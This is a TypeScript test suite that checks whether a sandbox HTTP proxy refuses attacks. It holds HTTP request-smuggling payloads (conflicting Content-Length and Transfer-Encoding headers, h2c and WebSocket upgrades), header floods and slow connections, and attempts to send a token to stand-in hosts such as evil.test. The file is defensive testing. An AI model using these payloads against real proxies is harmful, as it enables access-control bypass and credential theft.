import { strict as assert } from 'node:assert';

import type { Attack, Lab } from '../attack';
import { ALLOWED, reachesAllowed, target, webTarget, type WebTarget } from '../network-target';

const PROXY = 'the HTTP proxy, which judges each request for itself';
const READER = 'the reading of request heads: what could be read in two ways is refused';
const SECRET = 'sk-live-4f3c2b1a0987';

const GET = (url: string, ...fields: string[]): string => [`GET ${url} HTTP/1.1`, ...fields, 'Connection: close', '', ''].join('\r\n');

/** Sends texts to the proxy, each on a connection of its own, and prints the status of every answer. `PORT` stands for the server's. */
async function ask(web: Pick<WebTarget, 'run' | 'port'>, ...texts: string[]): Promise<string[]> {
  const answers = await web.run("for (const text of args) console.log(statuses(await raw(text.replaceAll('PORT', port))))", ...texts);
  return answers.split('\n');
}

/** A request through the proxy reaches an allowed server. */
const asksAllowed: Attack['allowed'] = async (lab) => {
  const web = await webTarget(lab, ALLOWED);
  assert.deepEqual(await ask(web, GET('http://good.test:PORT/a', 'Host: good.test:PORT')), ['200']);
  assert.deepEqual(web.requests, ['GET good.test /a']);
};

const masked = (lab: Lab, serve?: Parameters<typeof webTarget>[2]): Promise<WebTarget> =>
  webTarget(lab, (port) => ({ allowedDomains: [`good.test:${port}`, `other.test:${port}`, '127.0.0.1'] }), {
    credentials: { envVars: [{ name: 'API_TOKEN', mode: 'mask', injectHosts: ['good.test'] }], allowPlaintextInject: true },
    environment: { PATH: process.env['PATH'] ?? '', HOME: '/nonexistent', API_TOKEN: SECRET },
    ...serve,
  });

/** `get(url, headers, body in pieces)`: status and body of the answer. */
const CLIENT = `
  const token = process.env.API_TOKEN;
  const get = (url, headers = {}, pieces = []) => new Promise((resolve) => { const r = require('node:http').request(url, { method: pieces.length > 0 ? 'POST' : 'GET', headers }, (answer) => { let text = ''; answer.on('data', (d) => (text += d)).on('end', () => resolve(answer.statusCode + ' ' + text)); }); r.on('error', (e) => resolve(e.code)); for (const piece of pieces) r.write(piece); r.end(); });`;

export const requestAttacks: readonly Attack[] = [
  {
    id: 'N13',
    name: 'name one host in the URL and another in the Host header',
    outcome: 'the Host header is made from the URL, which is what was judged',
    stoppedBy: PROXY,
    async attempt(lab) {
      const web = await webTarget(lab, ALLOWED);
      assert.deepEqual(await ask(web, GET('http://good.test:PORT/', 'Host: evil.test'), GET('http://evil.test:PORT/', 'Host: good.test:PORT')), ['200', '403']);
      assert.deepEqual(web.requests, ['GET good.test /']);
      assert.equal(web.received().includes('evil'), false);
    },
    allowed: asksAllowed,
  },
  {
    id: 'N14',
    name: 'smuggle a second request into the first',
    outcome: '400',
    stoppedBy: READER,
    async attempt(lab) {
      const web = await webTarget(lab, ALLOWED);
      const post = (...fields: string[]): string => ['POST http://good.test:PORT/ HTTP/1.1', 'Host: good.test:PORT', 'Connection: close', ...fields, '', '0', '', 'GET http://good.test:PORT/smuggled HTTP/1.1', '', ''].join('\r\n');
      const hostile = [
        ['Host: evil.test'],
        ['Content-Length: 3', 'Content-Length: 5'],
        ['Content-Length: 5, 5'],
        ['Content-Length: +5'],
        ['Content-Length: 0x5'],
        ['Content-Length: 5', 'Transfer-Encoding: chunked'],
        ['Transfer-Encoding: xchunked'],
        ['Transfer-Encoding: chunked, identity'],
        ['Transfer-Encoding: chunked', 'Transfer-Encoding: x'],
        ['Transfer-Encoding:\x0bchunked'],
        ['X-A: b', ' Transfer-Encoding: chunked'],
        ['Transfer-Encoding : chunked'],
        ['X-A: b\nTransfer-Encoding: chunked'],
        ['X-A: b\rTransfer-Encoding: chunked'],
      ].map((fields) => post(...fields));
      const answers = await ask(web, ...hostile, post('Transfer-Encoding: chunked').replace('\r\n0\r\n', '\r\n1;a="\r\nx\r\n').replace('Connection: close\r\n', ''));
      assert.deepEqual(answers.filter((statuses) => !statuses.startsWith('4')), []);
      assert.deepEqual(web.requests.filter((line) => line.includes('smuggled')), []);
    },
    async allowed(lab) {
      const web = await webTarget(lab, ALLOWED);
      const chunked = 'POST http://good.test:PORT/ HTTP/1.1\r\nHost: good.test:PORT\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n3;note\r\nabc\r\n0\r\n\r\n';
      assert.deepEqual([await ask(web, chunked), web.received().includes('abc')], [['200'], true]);
    },
  },
  {
    id: 'N15',
    name: 'turn to another host with the second request of a connection',
    outcome: 'the first is answered, the second is refused',
    stoppedBy: PROXY,
    async attempt(lab) {
      const web = await webTarget(lab, ALLOWED);
      const text = `GET http://good.test:PORT/a HTTP/1.1\r\nHost: good.test:PORT\r\n\r\n${GET('http://evil.test:PORT/b', 'Host: good.test:PORT')}`;
      assert.deepEqual(await ask(web, text), ['200 403']);
      assert.deepEqual([web.requests, web.sandbox.violations()], [['GET good.test /a'], [`request GET http://evil.test:${web.port}/b /network/allowedDomains`]]);
    },
    async allowed(lab) {
      const web = await webTarget(lab, ALLOWED);
      assert.deepEqual(await ask(web, `GET http://good.test:PORT/a HTTP/1.1\r\nHost: good.test:PORT\r\n\r\n${GET('http://good.test:PORT/b', 'Host: good.test:PORT')}`), ['200 200']);
    },
  },
  {
    id: 'N16',
    name: 'switch to a protocol behind which requests go unseen: h2c, HTTP/2 from the start, a WebSocket that is none',
    outcome: '400; after a WebSocket that the server does not accept, nothing more is passed on',
    stoppedBy: READER,
    async attempt(lab) {
      const web = await webTarget(lab, ALLOWED);
      const upgrade = (protocol: string, ...more: string[]): string => `GET http://good.test:PORT/ HTTP/1.1\r\nHost: good.test:PORT\r\nConnection: Upgrade${more.length > 0 ? ', HTTP2-Settings' : ''}\r\nUpgrade: ${protocol}\r\n${more.map((line) => `${line}\r\n`).join('')}\r\n`;
      assert.deepEqual(await ask(web, upgrade('h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__'), upgrade('tls/1.0'), upgrade('websocket, h2c'), 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), ['400', '400', '400', '400']);
      assert.equal(web.requests.length, 0);
      const [afterwards] = await ask(web, `${upgrade('websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==').replace(', HTTP2-Settings', '')}${GET('http://good.test:PORT/unseen', 'Host: evil.test')}`);
      assert.doesNotMatch(afterwards ?? '', /101/);
      assert.deepEqual(web.requests.filter((line) => line.includes('unseen')), []);
    },
    allowed: asksAllowed,
  },
  {
    id: 'N19',
    name: 'send heads that are none, too large, or never complete',
    outcome: 'a status from 400 to 499, and everybody else is still served',
    stoppedBy: 'bounds on the size of a head and on the time it takes',
    async attempt(lab) {
      const web = await webTarget(lab, ALLOWED);
      const answers = await web.run(`
        const head = 'Host: good.test:' + port + '\\r\\nConnection: close\\r\\n\\r\\n', url = 'http://good.test:' + port + '/';
        const texts = ['GET / HTTP/1.1\\r\\n' + head, 'OPTIONS * HTTP/1.1\\r\\n' + head, 'TRACE ' + url + ' HTTP/1.1\\r\\n' + head, 'GET ' + url + 'a'.repeat(1048576) + ' HTTP/1.1\\r\\n' + head, 'GET ' + url + ' HTTP/1.1\\r\\nX-A: ' + 'a'.repeat(65536) + '\\r\\n' + head, 'GET ' + url + ' HTTP/1.1\\r\\n' + 'X-A: b\\r\\n'.repeat(20000) + head, 'GET ' + url + ' HTTP/9.9\\r\\n' + head];
        for (const text of texts) console.log(statuses(await raw(text)));
        const slow = await Promise.all(Array.from({ length: 1000 }, () => new Promise((resolve) => { const s = proxy(); s.on('connect', () => { s.write('GET ' + url); resolve(s); }).on('error', () => resolve(s)); })));
        console.log(statuses(await raw('GET ' + url + ' HTTP/1.1\\r\\n' + head)));
        for (const s of slow) s.destroy();`);
      const statuses = answers.split('\n');
      assert.deepEqual(statuses.slice(0, -1).filter((status) => !/^4\d\d$/.test(status)), []);
      assert.deepEqual([statuses.length, statuses.at(-1), web.requests], [8, '200', ['GET good.test /']]);
    },
    allowed: asksAllowed,
  },
  {
    id: 'N22',
    name: 'have what is meant for the proxy leak: to the server, into answers, violations and the log',
    outcome: 'it is not passed on, and neither a query nor a user name is recorded',
    stoppedBy: PROXY,
    async attempt(lab) {
      const web = await webTarget(lab, ALLOWED);
      const records: unknown[] = [];
      web.sandbox.session.network.onRecord((record) => records.push(record));
      const leaking = await web.run(
        "for (const text of args) console.log(JSON.stringify(await raw(text.replaceAll('PORT', port).replaceAll('TOKEN', 'sk-live-' + '4f3c2b1a0987'))));", // not in the command line, which violations do tell
        GET('http://good.test:PORT/', 'Host: x', 'Proxy-Authorization: Basic TOKEN', 'Proxy-Connection: TOKEN', 'Connection: X-Hop, close', 'X-Hop: TOKEN').replace('Connection: close\r\n', ''),
        GET('http://evil.test/?token=TOKEN', 'Host: x'),
        GET('http://me:TOKEN@good.test:PORT/', 'Host: x'),
        'CONNECT me:TOKEN@good.test:PORT HTTP/1.1\r\nHost: x\r\n\r\n',
      );
      assert.deepEqual(leaking.match(/HTTP\/1\.1 \d+/g), ['HTTP/1.1 200', 'HTTP/1.1 403', 'HTTP/1.1 400', 'HTTP/1.1 400']);
      for (const text of [leaking, web.received(), JSON.stringify([records, web.sandbox.session.violations.violations])]) assert.equal(text.includes(SECRET), false, text);
    },
    async allowed(lab) {
      const web = await webTarget(lab, ALLOWED);
      await ask(web, GET('http://good.test:PORT/', 'Host: x', `Authorization: Bearer ${SECRET}`));
      assert.ok(web.received().includes(SECRET)); // the program's own business with the server
    },
  },
  {
    id: 'N25',
    name: 'be redirected to a host that is denied, or that a credential is not for',
    outcome: 'the new request is judged, and has the placeholder only',
    stoppedBy: PROXY,
    async attempt(lab) {
      const web = await masked(lab, { serve: (request, response) => void response.writeHead(request.url === '/go' ? 302 : 200, { location: `http://${request.headers['x-to'] as string}/stolen` }).end('ok') });
      const source = "for (const to of ['evil.test', 'other.test']) console.log(await fetch('http://good.test:' + port + '/go', { headers: { 'x-token': process.env.API_TOKEN, 'x-to': to + ':' + port } }).then((r) => r.text(), (e) => e.cause.code));";
      assert.equal(await web.run(source), 'ENOTFOUND\nok');
      assert.deepEqual(web.requests, ['GET good.test /go', 'GET good.test /go', 'GET other.test /stolen']);
      assert.equal(web.received().split(SECRET).length - 1, 2); // the two to good.test
    },
    async allowed(lab) {
      const web = await masked(lab, { serve: (request, response) => void response.writeHead(request.url === '/go' ? 302 : 200, { location: '/there' }).end('ok') });
      assert.equal(await web.run("console.log(await fetch('http://good.test:' + port + '/go').then((r) => r.text()))"), 'ok');
    },
  },
  {
    id: 'N26',
    name: 'have the real credential sent to another host, or sent back',
    outcome: 'other hosts and URLs get the placeholder, and what a server sends back is turned into it again',
    stoppedBy: 'the injection of credentials, which looks at the connection and the request',
    async attempt(lab) {
      const web = await masked(lab, { serve: (request, response) => response.end(String(request.headers['x-token'])) });
      const answers = await web.run(`${CLIENT}
        console.log(await get('http://other.test:' + port + '/', { 'x-token': token }));
        console.log(await get('http://other.test:' + port + '/', { 'x-token': token, host: 'good.test' }));
        console.log(await get('http://good.test:' + port + '/' + token + '?' + token));
        console.log(await get('http://other.test:' + port + '/', {}, [token.slice(0, 20), token.slice(20)]));
        console.log(await get('http://good.test:' + port + '/', { 'x-token': token }) === '200 ' + token);`);
      assert.equal(answers.split('\n').at(-1), 'true');
      assert.equal(answers.includes(SECRET), false);
      assert.equal(web.received().split(SECRET).length - 1, 1, web.received());
    },
    async allowed(lab) {
      const web = await masked(lab);
      await web.run(`${CLIENT} await get('http://good.test:' + port + '/', { 'x-token': token }, [token.slice(0, 20), token.slice(20)]);`);
      assert.equal(web.received().split(SECRET).length - 1, 2);
    },
  },
  {
    id: 'N16a',
    name: 'get past rules for requests by a protocol that cannot be read',
    outcome: 'refused: with rules for a host, what cannot be read does not pass',
    stoppedBy: 'the inspection of connections to hosts with rules',
    async attempt(lab) {
      const { run, received, sandbox, port } = await target(lab, (at) => ({ ...ALLOWED(at), requests: [{ host: 'good.test', methods: ['GET'] }] }));
      const answers = await run("const s = await opened('good.test:' + port); console.log(/network.requests/.test(await raw('SSH-2.0-x\\r\\n', s)), statuses(await raw('PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n', await opened('good.test:' + port))), statuses(await raw('DELETE / HTTP/1.1\\r\\nHost: good.test:' + port + '\\r\\nConnection: close\\r\\n\\r\\n', net.connect(port, 'good.test'))))");
      assert.equal(answers, 'true 400 403');
      assert.deepEqual([received(), sandbox.violations().length], ['', 2]);
      assert.ok(sandbox.violations().includes(`connect good.test:${port} /network/requests`));
    },
    async allowed(lab) {
      const web = await webTarget(lab, (at) => ({ ...ALLOWED(at), requests: [{ host: 'good.test', methods: ['GET'] }] }));
      assert.equal(await web.run("console.log(statuses(await raw('GET / HTTP/1.1\\r\\nHost: good.test:' + port + '\\r\\nConnection: close\\r\\n\\r\\n', net.connect(port, 'good.test'))))"), '200');
      await reachesAllowed(lab);
    },
  },
];
